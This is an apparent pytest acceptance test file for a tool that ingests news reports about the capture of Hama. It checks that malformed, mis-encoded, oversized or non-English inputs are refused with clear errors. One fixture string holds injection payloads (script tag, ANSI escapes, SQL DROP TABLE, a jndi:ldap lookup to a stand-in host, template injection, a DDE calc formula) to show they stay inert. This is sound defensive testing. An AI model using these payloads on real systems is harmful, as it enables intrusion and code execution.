"""What bad input gets: a clear error naming file, line and reason; the other files are read; nothing half written."""

from __future__ import annotations

import gzip
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.acceptance.conftest import run
from whoholds.runs.shipped import find_shipped_theatre

GOOD = "Rebels captured the city of Hama on Thursday, the Syrian Observatory for Human Rights said. The army confirmed that it had left."
FRENCH = (
    "Les rebelles se sont emparés jeudi de la ville de Hama, a annoncé l'Observatoire syrien des droits de l'homme. L'armée a "
    "reconnu qu'elle s'était retirée de la ville pour épargner les civils, après de violents combats dans les quartiers. "
    "Des témoins ont vu des colonnes de véhicules prendre la route du sud pendant la nuit, sans que personne ne les arrête."
)
ARABIC = "سيطرت الفصائل على مدينة حماة يوم الخميس بعد معارك عنيفة مع الجيش في أحياء المدينة وانسحاب القوات إلى حمص."
ROW = {"id": "x", "outlet": "The Aster Post", "title": "", "text": GOOD}
HOSTILE = (
    "<script>alert(1)</script> Rebels captured \x1b[31mHama\x1b[0m on Thursday, '); DROP TABLE claims;-- "
    "the Syrian Observatory for Human Rights said. ${jndi:ldap://invented.example/a} {{7*7}} =cmd|'/c calc'!A0"
)


def write_json_row(**fields: str) -> bytes:
    return json.dumps({**ROW, **fields}).encode() + b"\n"


@pytest.fixture(scope="module")
def alone(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """Give the claims of the good report read alone."""
    folder = tmp_path_factory.mktemp("alone")
    (folder / "zz-good.txt").write_text(GOOD)
    run(folder / "l.sqlite", "read", folder / "zz-good.txt", "--published", "2024-12-05T18:00+03:00")
    told: bytes = run(folder / "l.sqlite", "claims", "--json").stdout_bytes
    return told


@pytest.mark.parametrize(
    ("name", "content", "reason"),
    [
        ("empty.txt", b"", "it is empty"),
        ("blank.txt", b" \n\n\t", "it is empty"),
        ("binary.txt", bytes(range(256)) * 20, "binary"),
        ("packed.txt", gzip.compress(GOOD.encode()), "gzip"),
        ("truncated.txt", "Rebels captured Hama, said Zoë and Zoë".encode()[:-1], "cut off"),
        ("truncated.jsonl", write_json_row(published_at="2024-12-05T18:00:00+03:00")[:-40], "truncated.jsonl:1"),
        ("french.txt", FRENCH.encode(), "not in English"),
        ("arabic.txt", ARABIC.encode(), "not in English"),
        ("wrong.txt", b"\xef\xbb\xbf" + "Hama fell, said Zoë on Thursday.".encode("cp1252"), "it is utf-8 and is not"),
        (
            "ahead.jsonl",
            write_json_row(published_at="2124-12-05T18:00:00+03:00"),
            "ahead.jsonl:1: its publication time",
        ),
        (
            "zoneless.jsonl",
            write_json_row(published_at="2024-12-05T18:00:00"),
            "has no zone; if it is that of Asia/Damascus",
        ),
        ("list.json", b"[1, 2", "list.json"),
    ],
)
def test_a_bad_file_is_named_with_its_reason_and_the_others_are_read(
    tmp_path: Path, alone: bytes, name: str, content: bytes, reason: str
) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / name).write_bytes(content)
    (folder / "zz-good.txt").write_text(GOOD)
    result = run(tmp_path / "l.sqlite", "read", folder, "--published", "2024-12-05T18:00+03:00")
    assert result.exit_code == 1
    assert f"refused {folder / name}" in result.stderr
    assert reason in result.stderr
    assert result.stdout.startswith("read 1 report, 1 refused: ")
    assert run(tmp_path / "l.sqlite", "claims", "--json").stdout_bytes == alone


def test_fifty_megabytes_are_refused(tmp_path: Path) -> None:
    large = tmp_path / "large.txt"
    with large.open("wb") as stream:
        stream.truncate(50_000_000)
    result = run(tmp_path / "l.sqlite", "read", large)
    assert result.exit_code == 1
    assert f"refused {large}: it is larger than 50 MB" in result.stderr


def test_one_bad_line_of_many_is_named_by_its_number(tmp_path: Path) -> None:
    good = write_json_row(published_at="2024-12-05T18:00:00+03:00")
    rows = tmp_path / "rows.jsonl"
    rows.write_bytes(good + b"{broken\n" + good.replace(b'"x"', b'"y"').replace(b"Hama", b"Salamiyah"))
    result = run(tmp_path / "l.sqlite", "read", rows)
    assert result.exit_code == 1
    assert f"refused {rows}:2: " in result.stderr
    assert result.stdout.startswith("read 2 reports, 1 refused: ")


def test_a_text_in_an_old_encoding_is_read_with_its_letters(tmp_path: Path) -> None:
    (tmp_path / "old.txt").write_bytes(f"{GOOD} “Zoë saw it”, said Zoë.".encode("cp1252"))
    result = run(tmp_path / "l.sqlite", "read", tmp_path / "old.txt", "--published", "2024-12-05T18:00+03:00")
    assert result.exit_code == 0, result.output


def test_hostile_words_stay_words(tmp_path: Path) -> None:
    (tmp_path / "hostile.txt").write_text(HOSTILE)
    ledger = tmp_path / "l.sqlite"
    assert run(ledger, "read", tmp_path / "hostile.txt", "--published", "2024-12-05T18:00+03:00").exit_code == 0
    assert "\x1b" not in run(ledger, "claims").output
    on = ("--on", "2024-12-05T20:00", "--since", "2024-12-04T20:00")
    result = run(ledger, "report", *on, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    page = (tmp_path / "out" / "situation.html").read_text(encoding="utf-8")
    assert "<script" not in page
    assert "\x1b" not in result.output


def test_a_publication_time_without_zone_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    (tmp_path / "good.txt").write_text(GOOD)
    result = run(tmp_path / "l.sqlite", "read", tmp_path / "good.txt", "--published", "2024-12-05T18:00")
    assert result.exit_code == 2
    assert "--published 2024-12-05T18:00 has no offset" in result.stderr


def add_line(file: str, line: str) -> Callable[[Path], None]:
    def add(folder: Path) -> None:
        with (folder / file).open("a", encoding="utf-8") as stream:
            stream.write(line + "\n")

    return add


@pytest.mark.parametrize(
    ("file", "line", "reason"),
    [
        ("roads.csv", "nowhere,homs,atlantis,20,primary,", "atlantis"),
        ("opening.csv", "homs,sdf,0.97,", "homs"),
        ("actors.csv", "ghosts,The Ghosts,belligerent,nobody,,,ghosts", "nobody"),
    ],
)
def test_a_faulty_theatre_is_named_by_file_and_line(tmp_path: Path, file: str, line: str, reason: str) -> None:
    folder = tmp_path / "theatre"
    shutil.copytree(find_shipped_theatre(), folder, ignore=shutil.ignore_patterns("reports"))
    heading = (folder / file).read_text(encoding="utf-8").splitlines()[0].split(",")
    cells = dict(zip(heading, line.split(","), strict=False))
    add_line(file, ",".join(cells.get(name, "") for name in heading))(folder)
    number = len((folder / file).read_text(encoding="utf-8").splitlines())
    ledger = tmp_path / "l.sqlite"
    result = run(ledger, "theatre", "check", folder)
    assert result.exit_code != 0
    assert f"{file}:{number}" in result.output
    assert reason in result.output
    assert run(ledger, "place", "Homs", "--theatre", folder).exit_code == 3
    assert not ledger.exists()
